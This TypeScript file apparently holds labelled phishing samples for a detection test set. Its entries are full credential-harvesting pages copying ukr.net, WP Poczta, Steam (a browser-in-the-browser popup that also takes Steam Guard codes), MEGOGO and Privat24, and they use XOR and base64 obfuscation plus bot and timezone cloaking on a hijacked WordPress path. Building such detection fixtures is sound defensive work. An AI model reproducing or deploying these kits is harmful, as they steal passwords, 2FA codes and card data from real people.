import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc, cardCss, mark, xorHex, b64, revB64, cardFormatJs, cardIcons } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-ukrnet-mailbox-full-xor',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail.ukr-net.online/desktop/login?email=o.petrenko%40ukr.net',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Пошта @ ukr.net</title><meta name="viewport" content="width=device-width"></head><body>
<script>
var _0x5a='${xorHex(doc({
    lang: 'uk',
    title: 'Пошта @ ukr.net',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f0f3f6}.l{width:360px;margin:70px auto;background:#fff;border-radius:10px;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.08)}
.lg{font-size:28px;font-weight:700;color:#2d6fb7;margin-bottom:16px}.lg i{color:#f39a1d;font-style:normal}.w{background:#fff5e6;border:1px solid #f3c98b;border-radius:6px;padding:10px;font-size:13px;margin-bottom:16px}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #c8d1da;border-radius:6px;font-size:15px;margin-bottom:12px}button{width:100%;padding:12px;background:#2d6fb7;color:#fff;border:0;border-radius:6px;font-size:15px}
.e{color:#c00;font-size:13px;display:none;margin-bottom:8px}`,
    body: `<div class="l"><div class="lg">ukr<i>.</i>net</div>
<div class="w">Ваша скринька переповнена (98% з 10 ГБ). Нові листи не доставляються. Увійдіть, щоб підтвердити безкоштовне розширення сховища.</div>
<div class="e" id="e">Неправильний пароль. Спробуйте ще раз.</div>
<form id="lf"><input id="em" name="login" placeholder="Логін або e-mail" required><input name="password" type="password" placeholder="Пароль" required><button>Увійти</button></form></div>
<script>var q=new URLSearchParams(location.search).get('email');if(q)document.getElementById('em').value=q;var n=0;
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var b=new FormData(this);b.append('n',n);fetch('/desktop/gate.php',{method:'POST',body:b,mode:'no-cors'});n++;if(n<2){document.getElementById('e').style.display='block';this.password.value=''}else location.href='https://mail.ukr.net/'};</script>`,
  }), 0x5a)}';
var _k=0x5a,_o='';for(var i=0;i<_0x5a.length;i+=2){_o+=String.fromCharCode(parseInt(_0x5a.substr(i,2),16)^_k)}
document.open();document.write(decodeURIComponent(escape(_o)));document.close();
</script></body></html>`,
},
{
  id: 'ym-wp-poczta-quota-verify',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://poczta-wp.konto-weryfikacja.com/logowanie/',
  body: doc({
    lang: 'pl',
    title: 'Poczta WP - Logowanie',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#fff}.top{height:60px;display:flex;align-items:center;padding:0 30px;border-bottom:1px solid #eee}.wp{background:#f53c28;color:#fff;font-weight:900;padding:4px 8px;border-radius:4px;font-size:20px}
.f{max-width:360px;margin:60px auto;padding:0 16px}h1{font-weight:500;font-size:24px}.alert{font-size:14px;background:#fff1ef;padding:12px;border-radius:6px;margin-bottom:18px;color:#9a1c0e}
input{width:100%;box-sizing:border-box;padding:14px;border:1px solid #ccc;border-radius:6px;margin-bottom:14px;font-size:16px}button{width:100%;padding:14px;background:#3c5ef5;color:#fff;border:0;border-radius:6px;font-size:16px}`,
    body: `<div class="top"><span class="wp">WP</span>&nbsp;<b>Poczta</b></div>
<div class="f"><h1>Zaloguj się do Poczty</h1>
<div class="alert">Wykryliśmy, że Twoja skrzynka osiągnęła limit miejsca. Zaloguj się ponownie, aby zachować przychodzące wiadomości.</div>
<form method="post" action="https://poczta-wp.konto-weryfikacja.com/logowanie/post.php">
<input name="login_username" placeholder="Login lub e-mail" required><input name="password" type="password" placeholder="Hasło" required>
<button type="submit">Zaloguj się</button></form>
<p style="font-size:13px;color:#777">Nie masz konta? <a href="#">Załóż konto</a></p></div>`,
  }),
},
{
  id: 'ym-steam-vote-team-bitb',
  label: 'phishing',
  kind: 'browser-in-browser-kit',
  url: 'https://cs2-cyberleague.com/vote/team/natus-nova',
  body: doc({
    lang: 'ru',
    title: 'CyberLeague 2024 — Голосование за команду',
    css: `body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#0d1117 url(/img/arena.jpg) center/cover;color:#fff}
.hero{max-width:900px;margin:60px auto;text-align:center}.teams{display:flex;gap:20px;justify-content:center;margin-top:30px}.t{background:#161b22;border:1px solid #30363d;border-radius:10px;padding:22px;width:220px}
.vb{margin-top:12px;background:#f0a500;color:#000;border:0;border-radius:6px;padding:10px 24px;font-weight:700;cursor:pointer}
#win{display:none;position:fixed;top:80px;left:50%;margin-left:-300px;width:600px;background:#171a21;border-radius:6px;box-shadow:0 10px 40px rgba(0,0,0,.6);overflow:hidden}
.chrome{background:#dee1e6;color:#333;padding:6px 10px;font-family:Arial;font-size:13px;display:flex;align-items:center;gap:8px}.url{flex:1;background:#fff;border-radius:12px;padding:4px 10px;color:#0a0}.url b{color:#222;font-weight:400}
.st{padding:30px 40px}.st h3{color:#c7d5e0}.st input{width:100%;box-sizing:border-box;background:#32353c;border:0;color:#fff;padding:12px;margin:6px 0 14px;border-radius:2px}
.st button{background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:12px 40px;border-radius:2px;font-size:15px}`,
    body: `<div class="hero"><h1>Поддержи команду в финале CyberLeague!</h1><p>Каждый проголосовавший получает кейс с ножом и 7 дней Prime. Голосование через Steam.</p>
<div class="teams"><div class="t"><h3>NATUS NOVA</h3><p>62% голосов</p><button class="vb">Голосовать</button></div><div class="t"><h3>IRON WOLVES</h3><p>38% голосов</p><button class="vb">Голосовать</button></div></div></div>
<div id="win"><div class="chrome">🔒 <span class="url">https://<b>steamcommunity.com</b>/openid/login?openid.mode=checkid_setup</span> ✕</div>
<div class="st"><h3>Войти через Steam</h3><form id="sf"><label>Имя аккаунта Steam</label><input name="username" required><label>Пароль</label><input name="password" type="password" required><button>Войти</button></form>
<div id="g" style="display:none"><p>Введите код из мобильного приложения Steam Guard</p><input name="guard" id="gc" maxlength="5"><button id="gb">Отправить</button></div></div></div>
<script>
document.querySelectorAll('.vb').forEach(function(b){b.onclick=function(){document.getElementById('win').style.display='block'}});
document.getElementById('sf').onsubmit=function(e){e.preventDefault();fetch('/api/auth',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:this.username.value,p:this.password.value})});this.style.display='none';document.getElementById('g').style.display='block'};
document.getElementById('gb').onclick=function(){fetch('/api/guard',{method:'POST',body:document.getElementById('gc').value}).finally(function(){location.href='https://steamcommunity.com/'})};
</script>`,
  }),
},
{
  id: 'ym-megogo-subscription-declined',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://megogo-ua.oplata-pidpysky.com/uk/billing',
  body: doc({
    lang: 'uk',
    title: 'MEGOGO — Оновіть спосіб оплати',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#0f0f14;color:#fff}.h{padding:18px 36px;font-size:24px;font-weight:900;letter-spacing:1px}.h span{color:#7b3fe4}
.c{max-width:440px;margin:30px auto;background:#1b1b24;border-radius:12px;padding:30px}.w{background:#3a1620;color:#ff8a9a;padding:12px;border-radius:8px;font-size:14px;margin-bottom:18px}
label{font-size:13px;color:#aaa;display:block;margin:12px 0 6px}input{width:100%;box-sizing:border-box;background:#0f0f14;border:1px solid #333;color:#fff;padding:13px;border-radius:8px;font-size:16px}
.r{display:flex;gap:10px}.r>div{flex:1}button{margin-top:20px;width:100%;padding:14px;border:0;border-radius:8px;background:#7b3fe4;color:#fff;font-size:16px}`,
    body: `<div class="h">MEGO<span>GO</span></div>
<div class="c"><div class="w">Не вдалося списати оплату за підписку «Максимальна». Доступ до фільмів і ТБ-каналів буде призупинено.</div>
<h2>Оновіть дані картки</h2><form method="post" action="/uk/billing/update">
<label>Номер картки</label><input name="card_number" id="pan" inputmode="numeric" required>
<div class="r"><div><label>Термін дії</label><input name="card_exp" id="exp" required></div><div><label>CVV</label><input name="card_cvv" maxlength="3" type="password" required></div></div>
<label>Email акаунта MEGOGO</label><input name="email" type="email" required>
<button>Зберегти та продовжити підписку</button></form><p style="font-size:12px;color:#777;margin-top:14px">${cardIcons} Оплата захищена</p></div>
<script>${cardFormatJs}fmtCard(document.getElementById('pan'));fmtExp(document.getElementById('exp'));</script>`,
  }),
},
{
  id: 'ym-cloaked-privat-loader-js',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://kvartal-remont.com.ua/wp-includes/css/p24/',
  body: `<!DOCTYPE html>
<html lang="uk"><head><meta charset="utf-8"><title>Квартал Ремонт — ремонт квартир під ключ у Києві</title>
<meta name="description" content="Ремонт квартир, будинків та офісів у Києві. Гарантія 3 роки."></head>
<body style="font-family:Arial,sans-serif;margin:0">
<div id="root"><div style="max-width:800px;margin:60px auto;padding:0 20px"><h1>Сторінку не знайдено</h1><p>Можливо, її було видалено або переміщено. Поверніться на <a href="/">головну</a>.</p></div></div>
<script>
(function(){
  var n=navigator,u=n.userAgent||'';
  var bot=n.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse|Google-InspectionTool|python|curl|PhantomJS/i.test(u)||!n.languages||n.languages.length===0;
  var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
  if(bot||(tz&&tz.indexOf('Europe/Kiev')<0&&tz.indexOf('Europe/Kyiv')<0&&tz.indexOf('Europe/Warsaw')<0))return;
  var s=document.createElement('script');s.src='/wp-includes/css/p24/app.js?v='+Date.now();document.body.appendChild(s);
})();
</script></body></html>`,
  routes: {
    'kvartal-remont.com.ua/wp-includes/css/p24/app.js': jsRoute(`(function(){var h=atob('${b64(`<div style="font-family:Arial,sans-serif;background:#f2f4f1;min-height:100vh;padding-top:60px"><div style="max-width:400px;margin:auto;background:#fff;border-radius:14px;padding:32px;box-shadow:0 6px 24px rgba(0,0,0,.08)"><div style="color:#4c9a2a;font-size:26px;font-weight:700">Приват24</div><h2>Вхід до Приват24</h2><form id="pf" method="post" action="/wp-includes/css/p24/x.php"><p>Номер телефону</p><input name="phone" value="+380" style="width:100%;padding:12px;border:1px solid #ccc;border-radius:8px"><p>Пароль</p><input name="pass" type="password" style="width:100%;padding:12px;border:1px solid #ccc;border-radius:8px"><p>Номер картки</p><input name="card" style="width:100%;padding:12px;border:1px solid #ccc;border-radius:8px"><p>CVV</p><input name="cvv" maxlength="3" style="width:100%;padding:12px;border:1px solid #ccc;border-radius:8px"><button style="margin-top:18px;width:100%;padding:13px;background:#4c9a2a;color:#fff;border:0;border-radius:8px">Увійти</button></form></div></div>`)}');
document.title='Приват24 — Вхід';var r=document.getElementById('root');r.innerHTML=decodeURIComponent(escape(h));})();`),
  },
},
];
